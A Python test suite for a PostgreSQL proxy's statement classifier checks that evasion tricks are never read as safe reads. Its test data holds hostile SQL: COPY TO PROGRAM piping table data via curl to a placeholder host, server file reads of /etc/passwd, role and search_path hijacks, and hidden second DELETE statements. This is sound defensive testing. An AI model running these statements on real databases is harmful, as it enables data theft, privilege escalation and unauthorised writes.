"""Every known way around a SQL gate, in many spellings: each must be caught, never read as a read.

Each case is one statement and what it must classify as. ``fixed_variants`` and hypothesis respell it
(letter case, comments, whitespace, newlines) and every spelling must classify exactly as the original.
"""

from __future__ import annotations

from dataclasses import dataclass, field

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pgproxy.sql.classify import Classifier, classify_uncached
from pgproxy.sql.statement import Category, Flag, Relation, Statement
from tests.unit.sql.variants import fixed_variants, spelled


@dataclass(frozen=True)
class Case:
    sql: str
    category: Category
    flags: frozenset[Flag] = frozenset()
    refused: bool = False
    writes: frozenset[Relation] = frozenset()
    reads: frozenset[Relation] = frozenset()
    unsafe: frozenset[str] = frozenset()
    setting: str | None = None
    extra: dict[str, object] = field(default_factory=dict)


def case(sql: str, category: Category, *flags: Flag, refused: bool = False, **checks: object) -> Case:
    def relations(names: object) -> frozenset[Relation]:
        found = set()
        for name in str(names or "").split():
            schema, _, table = name.rpartition(".")
            found.add(Relation(schema or None, table))
        return frozenset(found)

    return Case(
        sql,
        category,
        frozenset(flags),
        refused,
        writes=relations(checks.pop("writes", "")),
        reads=relations(checks.pop("reads", "")),
        unsafe=frozenset(str(checks.pop("unsafe", "")).split()),
        setting=checks.pop("setting", None),  # type: ignore[arg-type]
        extra=checks,
    )


W, D, P, U, R = Category.WRITE, Category.DDL, Category.PRIVILEGE, Category.UTILITY, Category.READ
PROC, UNK, TX = Category.PROCEDURAL, Category.UNKNOWN, Category.TRANSACTION
CTE, LOCK, INTO, ANALYZE = Flag.DATA_MODIFYING_CTE, Flag.LOCKING_CLAUSE, Flag.SELECT_INTO, Flag.EXPLAIN_ANALYZE
FN, FILE_FN, PROGRAM, FILE = Flag.UNSAFE_FUNCTION, Flag.SERVER_FILE_FUNCTION, Flag.COPY_PROGRAM, Flag.COPY_SERVER_FILE

DATA_MODIFYING_CTES = [
    case("WITH d AS (DELETE FROM accounts RETURNING *) SELECT * FROM d", W, CTE, writes="accounts"),
    case("WITH x AS (SELECT 1), d AS (UPDATE accounts SET balance = 0 RETURNING id) SELECT * FROM x", W, CTE),
    case("SELECT * FROM (WITH d AS (INSERT INTO audit VALUES (1) RETURNING *) SELECT * FROM d) s", W, CTE),
    case("SELECT (WITH d AS (DELETE FROM t RETURNING 1) SELECT count(*) FROM d)", W, CTE, writes="t"),
    case("SELECT * FROM t WHERE id IN (WITH d AS (DELETE FROM u RETURNING id) SELECT id FROM d)", W, CTE),
    case("SELECT * FROM t, LATERAL (WITH d AS (DELETE FROM u RETURNING *) SELECT * FROM d) x", W, CTE),
    case(
        "WITH m AS (MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE RETURNING t.*) SELECT * FROM m", W, CTE
    ),
    case(
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r), d AS (DELETE FROM t RETURNING 1) TABLE r",
        W,
        CTE,
    ),
    case("WITH d AS (DELETE FROM a RETURNING *) INSERT INTO b SELECT * FROM d", W, CTE, writes="a b"),
    case('WITH "D" AS (DELETE FROM "Accounts" RETURNING *) SELECT * FROM "D"', W, CTE, writes="Accounts"),
    case("EXPLAIN WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", W, CTE),
    case("DECLARE c CURSOR FOR WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", W, CTE),
    case("VALUES ((WITH d AS (DELETE FROM t RETURNING 1) SELECT 1))", W, CTE),
]

EXPLAIN_ANALYZE = [
    case("EXPLAIN ANALYZE DELETE FROM accounts", W, ANALYZE, writes="accounts"),
    case("EXPLAIN ANALYZE VERBOSE UPDATE accounts SET balance = 0", W, ANALYZE),
    case("EXPLAIN ANALYSE DELETE FROM accounts", W, ANALYZE),
    case("EXPLAIN (ANALYSE, COSTS off) DELETE FROM accounts", W, ANALYZE),
    case('EXPLAIN ("analyze") DELETE FROM accounts', W, ANALYZE),
    case("EXPLAIN (ANALYZE) INSERT INTO t VALUES (1)", W, ANALYZE),
    case("EXPLAIN (ANALYZE true, BUFFERS) DELETE FROM t", W, ANALYZE),
    case("EXPLAIN (FORMAT JSON, ANALYZE on) DELETE FROM t", W, ANALYZE),
    case("EXPLAIN (ANALYZE 1) DELETE FROM t", W, ANALYZE),
    case("EXPLAIN (ANALYZE 'on') DELETE FROM t", W, ANALYZE),
    case("EXPLAIN (ANALYZE 'yes') DELETE FROM t", W, ANALYZE),  # the server refuses it; fail closed anyway
    case("EXPLAIN (ANALYZE off, ANALYZE) DELETE FROM t", W, ANALYZE),
    case("EXPLAIN (ANALYZE off) DELETE FROM t", W),  # not run, still the plan of a write
    case("EXPLAIN (ANALYZE false) MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE", W),
    case("EXPLAIN DELETE FROM t", W),
    case("EXPLAIN ANALYZE SELECT 1", U, ANALYZE),  # runs the statement: not on the read allow-list
    case("EXPLAIN (ANALYZE 0) SELECT * FROM t", R, reads="t"),
    case("EXPLAIN (ANALYZE 'off') SELECT * FROM t", R, reads="t"),
    case("EXPLAIN SELECT * FROM t", R, reads="t"),
    case("EXPLAIN ANALYZE SELECT nextval('s')", W, ANALYZE, FN, unsafe="nextval"),
    case("EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1", D, ANALYZE, writes="x"),
    case("EXPLAIN ANALYZE SELECT * INTO x FROM t", D, ANALYZE, INTO, writes="x", reads="t"),
    case("EXPLAIN (ANALYZE) SELECT * FROM t FOR UPDATE", W, ANALYZE, LOCK),
]

SELECT_INTO = [
    case("SELECT * INTO newtab FROM accounts", D, INTO, writes="newtab", reads="accounts"),
    case("SELECT a INTO TEMP t2 FROM t", D, INTO, writes="t2"),
    case("SELECT 1 INTO UNLOGGED TABLE x", D, INTO, writes="x"),
    case("WITH c AS (SELECT 1) SELECT * INTO s.x FROM c", D, INTO, writes="s.x"),
    case("SELECT * INTO TABLE x FROM t UNION SELECT * FROM u", D, INTO, writes="x", reads="t u"),
    case("SELECT * FROM t FOR UPDATE", W, LOCK, reads="t"),
    case("SELECT * FROM t FOR NO KEY UPDATE SKIP LOCKED", W, LOCK),
    case("SELECT * FROM (SELECT * FROM t FOR SHARE) s", W, LOCK),
    case("SELECT * FROM t FOR KEY SHARE OF t NOWAIT", W, LOCK),
]

FUNCTIONS = [
    case("SELECT nextval('s')", W, FN, unsafe="nextval"),
    case("SELECT NEXTVAL('s')", W, FN, unsafe="nextval"),
    case("SELECT \"nextval\"('s')", W, FN, unsafe="nextval"),
    case("SELECT pg_catalog.nextval('s')", W, FN, unsafe="pg_catalog.nextval"),
    case("SELECT setval('s', 1)", W, FN),
    case("SELECT currval('s'), lastval()", R),
    case("SELECT set_config('search_path', 'evil', false)", P, FN, unsafe="set_config"),
    case("SELECT set_config('work_mem', '1MB', true)", P, FN),  # whatever the constant
    case("SELECT public.set_config('a', 'b', false)", P, FN),
    case("SELECT pg_read_file('/etc/passwd')", PROC, FN, FILE_FN, refused=True),
    case("SELECT * FROM pg_read_file('/etc/passwd')", PROC, FN, FILE_FN, refused=True),
    case("SELECT pg_read_binary_file('global/pg_control')", PROC, FN, FILE_FN, refused=True),
    case("SELECT pg_ls_dir('.')", PROC, FN, FILE_FN, refused=True),
    case("SELECT pg_stat_file('postgresql.conf')", PROC, FN, FILE_FN, refused=True),
    case("SELECT lo_import('/etc/passwd')", PROC, FN, FILE_FN, refused=True),
    case("SELECT lo_export(16385, '/tmp/x')", PROC, FN, FILE_FN, refused=True),
    case("SELECT evil.pg_read_file('x')", PROC, FN, FILE_FN, refused=True),
    case("SELECT lo_unlink(16385)", W, FN),
    case("SELECT lo_from_bytea(0, '\\x00')", W, FN),
    case("SELECT loread(lo_open(1, 262144), 10)", W, FN),
    case("SELECT * FROM dblink('dbname=x', 'DELETE FROM t') AS r(a int)", PROC, FN, unsafe="dblink"),
    case("SELECT dblink_exec('dbname=x', 'DROP TABLE t')", PROC, FN),
    case("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", U, FN, reads="pg_stat_activity"),
    case("SELECT pg_cancel_backend(1)", U, FN),
    case("SELECT pg_sleep(10)", U, FN),
    case("SELECT pg_advisory_lock(1)", U, FN),
    case("SELECT pg_notify('c', 'x')", U, FN),
    case("SELECT pg_reload_conf()", U, FN),
    case("SELECT my_function(1)", PROC, FN, unsafe="my_function"),
    case("SELECT public.lower('X')", PROC, FN, unsafe="public.lower"),
    case("SELECT pg_temp.lower('X')", PROC, FN),
    case("SELECT mydb.pg_catalog.lower('X')", PROC, FN),
    case("SELECT \"LOWER\"('X')", PROC, FN, unsafe="LOWER"),
    case("SELECT \"pg_catalog.lower\"('X')", PROC, FN, unsafe="pg_catalog.lower"),
    case("SELECT pg_catalog.lower('X'), upper('y'), count(*), now()", R),
    case("SELECT query_to_xml('SELECT * FROM secrets', true, true, '')", PROC, FN),
    case("SELECT table_to_xml('secrets', true, true, '')", PROC, FN),
    case("SELECT ts_stat('SELECT body FROM docs')", PROC, FN),
    case("SELECT ts_rewrite('a'::tsquery, 'SELECT t, s FROM aliases')", PROC, FN),
    case("SELECT ts_rewrite('a'::tsquery, 'a'::tsquery, 'b'::tsquery)", R),
    case("SELECT lower(nextval('s')::text)", W, FN),
    case("SELECT * FROM t WHERE id = nextval('s')", W, FN, reads="t"),
    case("SELECT * FROM t ORDER BY my_rank(t)", PROC, FN),
    case("SELECT a, count(*) FILTER (WHERE evil(a)) FROM t GROUP BY a", PROC, FN),
    case("SELECT CASE WHEN x THEN nextval('s') END FROM t", W, FN),
    case("SELECT * FROM t JOIN u ON evil(t.a, u.b)", PROC, FN, reads="t u"),
    case("SELECT * FROM t, LATERAL (SELECT nextval('s')) x", W, FN),
    case("SELECT * FROM ROWS FROM (nextval('s'), generate_series(1, 3))", W, FN),
    case("SELECT sum(x) OVER (PARTITION BY evil(y)) FROM t", PROC, FN),
    case("VALUES (nextval('s'))", W, FN),
    case("SELECT 1 OPERATOR(public.+) 2", PROC, FN, unsafe="operator(public.+)"),
    case("SELECT a === b FROM t", PROC, FN, unsafe="operator(===)"),
    case("SELECT 1 OPERATOR(pg_catalog.+) 2, 'a' || 'b', 3 BETWEEN 1 AND 4", R),
    case("SELECT * FROM t ORDER BY a USING ~<~~", PROC, FN),
    case("SELECT * FROM t TABLESAMPLE evil_sampler (10)", PROC, FN),
    case("SELECT * FROM t TABLESAMPLE bernoulli (10)", R),
    case("SELECT txid_current()", W, FN),
]

COPY = [
    case("COPY t TO PROGRAM 'curl -d @- http://x'", Category.EXPORT, PROGRAM, refused=True, reads="t"),
    case("COPY t FROM PROGRAM 'id'", Category.IMPORT, PROGRAM, refused=True, writes="t"),
    case("COPY (SELECT 1) TO PROGRAM 'x'", Category.EXPORT, PROGRAM, refused=True),
    case("COPY t (a) FROM PROGRAM $$cat /etc/passwd$$", Category.IMPORT, PROGRAM, refused=True),
    case("copy t to program E'id\\n'", Category.EXPORT, PROGRAM, refused=True),
    case("COPY t TO '/tmp/x'", Category.EXPORT, FILE, refused=True),
    case("COPY t FROM '/etc/passwd'", Category.IMPORT, FILE, refused=True),
    case("COPY t FROM ''", Category.IMPORT, FILE, refused=True),
    case("COPY t FROM 'stdin'", Category.IMPORT, FILE, refused=True),
    case("COPY (SELECT 1 FROM u) TO 'out.csv' WITH (FORMAT csv)", Category.EXPORT, FILE, refused=True),
    case("COPY t FROM E'/tmp/x'", Category.IMPORT, FILE, refused=True),
    case("COPY t FROM U&'/tmp/\\0078'", Category.IMPORT, FILE, refused=True),
    case("COPY BINARY t FROM '/x'", Category.IMPORT, FILE, refused=True),
    case("COPY t (a, b) FROM STDIN WITH (FORMAT csv) WHERE a > 1", Category.IMPORT, writes="t"),
    case("COPY t TO STDOUT", Category.EXPORT, reads="t"),
    case("COPY (SELECT * FROM t WHERE x IN (SELECT 1 FROM u)) TO STDOUT", Category.EXPORT, reads="t u"),
    case("COPY (SELECT f()) TO STDOUT", PROC, FN),
    case("COPY (DELETE FROM t RETURNING *) TO STDOUT", W, writes="t"),
    case("COPY (SELECT * FROM t FOR UPDATE) TO STDOUT", W, LOCK),
    case("COPY t FROM STDIN WHERE nextval('s') > 0", Category.IMPORT, FN),
]

INDIRECTION = [
    case("PREPARE p AS DELETE FROM t", W, writes="t", prepared_name="p"),
    case("PREPARE p(int) AS SELECT * FROM t WHERE id = $1", R, reads="t", prepared_name="p"),
    case("PREPARE p AS WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", W, CTE),
    case("EXECUTE p", UNK, prepared_name="p", command="EXECUTE"),
    case("EXECUTE p(1, nextval('s'))", UNK, FN, prepared_name="p"),
    case("EXPLAIN ANALYZE EXECUTE p", UNK, ANALYZE),
    case("CREATE TABLE x AS EXECUTE p", UNK, prepared_name="p", writes="x"),
    case("DO $$BEGIN DELETE FROM t; END$$", PROC, command="DO"),
    case("DO LANGUAGE plpgsql 'BEGIN PERFORM 1; END'", PROC),
    case("CALL proc(1)", PROC, FN, command="CALL"),
    case("CALL pg_catalog.lower('x')", PROC, command="CALL"),
    case("LOAD 'auto_explain'", PROC),
]

SESSION_PRIVILEGE = [
    case("SET ROLE admin", P, setting="role"),
    case("SET LOCAL ROLE admin", P, setting="role"),
    case("SET SESSION ROLE admin", P, setting="role"),
    case("SET role = 'admin'", P, setting="role"),
    case("SET role TO admin", P, setting="role"),
    case("SET SESSION AUTHORIZATION admin", P, setting="session_authorization"),
    case("SET SESSION AUTHORIZATION DEFAULT", P),
    case("RESET ROLE", P, setting="role", command="RESET"),
    case("RESET SESSION AUTHORIZATION", P, setting="session_authorization"),
    case("RESET ALL", P, setting="all"),
    case("DISCARD ALL", P, command="DISCARD ALL"),
    case("SET search_path = evil, public", P, setting="search_path"),
    case("SET search_path TO DEFAULT", P, setting="search_path"),
    case("SET SCHEMA 'evil'", P, setting="search_path"),
    case("SET LOCAL search_path = x", P, setting="search_path"),
    case("RESET search_path", P, setting="search_path"),
    case('SET "Search_Path" = x', P, setting="search_path"),
    case('SET U&"search\\005Fpath" = x', P, setting="search_path"),
    case("SET default_transaction_read_only = off", P),
    case("SET transaction_read_only TO 0", P),
    case("SET application_name = 'someone else'", P),
    # Settings that change how text is read are SESSION: the gate holds further text until the server
    # reports the new value and ends the session when pgproxy cannot read it (tests/unit/gate).
    case("SET NAMES 'SJIS'", Category.SESSION, setting="client_encoding"),
    case("SET client_encoding = 'BIG5'", Category.SESSION, setting="client_encoding"),
    case("SET session_replication_role = replica", P),
    case("SET row_security = off", P),
    case("SET app.tenant_id = '42'", P, setting="app.tenant_id"),
    case("SET standard_conforming_strings = off", Category.SESSION, setting="standard_conforming_strings"),
    case("SET backslash_quote = on", P, setting="backslash_quote"),
    case("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", TX, Flag.READ_WRITE_TRANSACTION),
    case("SET TRANSACTION READ WRITE", TX, Flag.READ_WRITE_TRANSACTION),
    case("BEGIN READ WRITE", TX, Flag.READ_WRITE_TRANSACTION),
    case("START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE", TX, Flag.READ_WRITE_TRANSACTION),
    case("BEGIN ISOLATION LEVEL REPEATABLE READ, READ ONLY", TX),
    case("SET TRANSACTION READ ONLY", TX),
    case("SET work_mem = '1GB'", Category.SESSION, setting="work_mem"),
    case("SET LOCAL enable_seqscan = off", Category.SESSION),
    case("SET TIME ZONE 'UTC'", Category.SESSION, setting="timezone"),
    case("SET some_new_setting = 1", UNK),
]

UNICODE = [
    case('SELECT * FROM U&"p\\0061ssword"', R, reads="password"),
    case("SELECT * FROM U&\"p!0061ssword\" UESCAPE '!'", R, reads="password"),
    case('SELECT * FROM U&"\\0070ublic".U&"\\0070assword"', R, reads="public.password"),
    case("SELECT U&\"n\\0065xtval\"('s')", W, FN, unsafe="nextval"),
    case("SELECT U&\"p\\0067_read_file\"('x')", PROC, FN, FILE_FN, refused=True),
    case('SET U&"r\\006Fle" = admin', P, setting="role"),
    case('DELETE FROM U&"\\0061ccounts"', W, writes="accounts"),
    # identifiers longer than 63 bytes are truncated, by the server and by the parser alike
    case("SELECT * FROM " + "k" * 63 + "_ignored_tail", R, reads="k" * 63),
    case('SELECT * FROM "' + "K" * 63 + '_ignored_tail"', R, reads="K" * 63),
]

WHOLE_ROW = [
    case("SELECT u FROM users u", R, reads="users"),
    case("SELECT row_to_json(u) FROM users u", R, reads="users"),
    case("SELECT u.* FROM users AS u", R, reads="users"),
    case("SELECT to_jsonb(t), t::text FROM s.t", R, reads="s.t"),
    case("SELECT * FROM generate_series(1, 3) g, unnest(ARRAY[1]) x", R),
]

ALL = DATA_MODIFYING_CTES + EXPLAIN_ANALYZE + SELECT_INTO + FUNCTIONS + COPY + INDIRECTION + SESSION_PRIVILEGE
ALL += UNICODE + WHOLE_ROW


def check(statement: Statement, expected: Case) -> None:
    assert statement.category is expected.category, (expected.sql, statement)
    assert expected.flags <= statement.flags, (expected.sql, statement.flags)
    assert (statement.refusal is not None) is expected.refused, (expected.sql, statement.refusal)
    assert expected.writes <= statement.writes, (expected.sql, statement.writes)
    assert expected.reads <= statement.reads, (expected.sql, statement.reads)
    assert expected.unsafe <= statement.unsafe_functions, (expected.sql, statement.unsafe_functions)
    assert statement.unsafe_functions <= statement.functions
    if expected.setting is not None:
        assert statement.setting == expected.setting
    for name, value in expected.extra.items():
        assert getattr(statement, name) == value, (expected.sql, name)
    if Flag.EXPLAIN_ANALYZE in statement.flags or statement.refusal or statement.unsafe_functions:
        assert statement.category is not Category.READ


@pytest.mark.parametrize("expected", ALL, ids=[c.sql[:60] for c in ALL])
def test_each_spelling_classifies_like_the_original(expected: Case) -> None:
    base = classify_uncached(expected.sql)
    assert not base.unparseable and len(base.statements) == 1, base
    check(base.statements[0], expected)
    for variant in fixed_variants(expected.sql):
        assert classify_uncached(variant) == base, variant


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.data())
def test_random_spellings_classify_like_the_original(data: st.DataObject) -> None:
    expected = data.draw(st.sampled_from(ALL))
    variant = data.draw(spelled(expected.sql))
    assert classify_uncached(variant) == classify_uncached(expected.sql), variant


def test_the_cached_classifier_agrees_on_every_spelling() -> None:
    classifier = Classifier()
    for expected in ALL:
        base = classify_uncached(expected.sql)
        for variant in fixed_variants(expected.sql):
            assert classifier.classify(variant) == base, variant
            assert classifier.classify(variant) == base, variant  # and again, from the cache


HIDDEN_SECOND_STATEMENTS = [
    "SELECT 1; DELETE FROM t",
    "SELECT 1 /* ; */; DELETE FROM t",
    "SELECT 1 -- ; comment\n; DELETE FROM t",
    "SELECT '--'; DELETE FROM t",
    "SELECT $$;$$; DELETE FROM t",
    "SELECT $a$ $$ ; $a$; DELETE FROM t",
    "SELECT 1 /* /* nested */ ; */; DELETE FROM t",
    "SELECT E'\\''; DELETE FROM t",
    "SELECT '\\'; DELETE FROM t; --'",  # standard_conforming_strings: the backslash is ordinary
    "select 1;\n\n  delete\nfrom\tt",
    'SELECT "a;b" FROM x; DELETE FROM t',
]


@pytest.mark.parametrize("sql", HIDDEN_SECOND_STATEMENTS)
def test_a_second_statement_is_never_hidden(sql: str) -> None:
    statements = classify_uncached(sql).statements
    assert len(statements) == 2, statements
    assert statements[1].category is Category.WRITE and statements[1].command == "DELETE"
    assert statements[1].writes == {Relation(None, "t")}


COMMENTED_OUT = [
    "SELECT 1 /* ; DELETE FROM t */",
    "SELECT 1 -- ; DELETE FROM t",
    "SELECT 1 /* /* */ ; DELETE FROM t */",
    "SELECT E'\\'; DELETE FROM t; --'",
    "SELECT $$; DELETE FROM t; $$",
    "SELECT 'x''; DELETE FROM t; --'",
]


@pytest.mark.parametrize("sql", COMMENTED_OUT)
def test_text_inside_comments_and_strings_is_not_a_statement(sql: str) -> None:
    statements = classify_uncached(sql).statements
    assert [statement.category for statement in statements] == [Category.READ]


_EXPRESSIONS = [
    "1",
    "a",
    "t.a",
    "lower(a)",
    "nextval('s')",
    "evil(a)",
    "public.lower(a)",
    "set_config('x', 'y', false)",
    "pg_read_file('f')",
    "a || 'x'",
    "a === b",
    "count(*)",
    "(SELECT max(a) FROM u)",
    "EXISTS (SELECT 1 FROM v)",
    "ARRAY(SELECT nextval('s'))",
    "CASE WHEN a THEN b END",
    "a OPERATOR(public.+) 1",
    "row_to_json(t)",
]
_FROMS = [
    "t",
    "s.t",
    "t JOIN u ON t.a = u.a",
    "generate_series(1, 3) g",
    "evil() e",
    "(SELECT * FROM u FOR UPDATE) x",
    "LATERAL (SELECT nextval('s')) l",
    "t TABLESAMPLE system (1)",
    "ROWS FROM (unnest(ARRAY[1])) r",
]
_WITHS = ["", "WITH w AS (SELECT 1) ", "WITH d AS (DELETE FROM t RETURNING *) ", "WITH RECURSIVE r AS (SELECT 1) "]
_TAILS = ["", " ORDER BY 1", " FOR UPDATE", " LIMIT 1", " GROUP BY 1 HAVING count(*) > 1"]
_WRAPPERS = [
    "{}",
    "EXPLAIN {}",
    "EXPLAIN ANALYZE {}",
    "EXPLAIN (ANALYZE off) {}",
    "DECLARE c CURSOR FOR {}",
    "PREPARE p AS {}",
    "COPY ({}) TO STDOUT",
    "CREATE VIEW v AS {}",
]


@st.composite
def composed(draw: st.DrawFn) -> str:
    expressions = ", ".join(draw(st.lists(st.sampled_from(_EXPRESSIONS), min_size=1, max_size=3)))
    query = f"{draw(st.sampled_from(_WITHS))}SELECT {expressions} FROM {draw(st.sampled_from(_FROMS))}"
    query += f" WHERE {draw(st.sampled_from(_EXPRESSIONS))} IS NOT NULL{draw(st.sampled_from(_TAILS))}"
    return draw(st.sampled_from(_WRAPPERS)).format(query)


@settings(max_examples=400, deadline=None)
@given(composed())
def test_composed_statements_are_read_exactly_when_the_allow_list_says_so(sql: str) -> None:
    import json

    import pglast.parser

    from tests.unit.sql.readcheck import may_be_read

    (statement,) = classify_uncached(sql).statements
    ((kind, node),) = json.loads(pglast.parser.parse_sql_json(sql))["stmts"][0]["stmt"].items()
    assert (statement.category is Category.READ) is may_be_read(kind, node), (sql, statement)
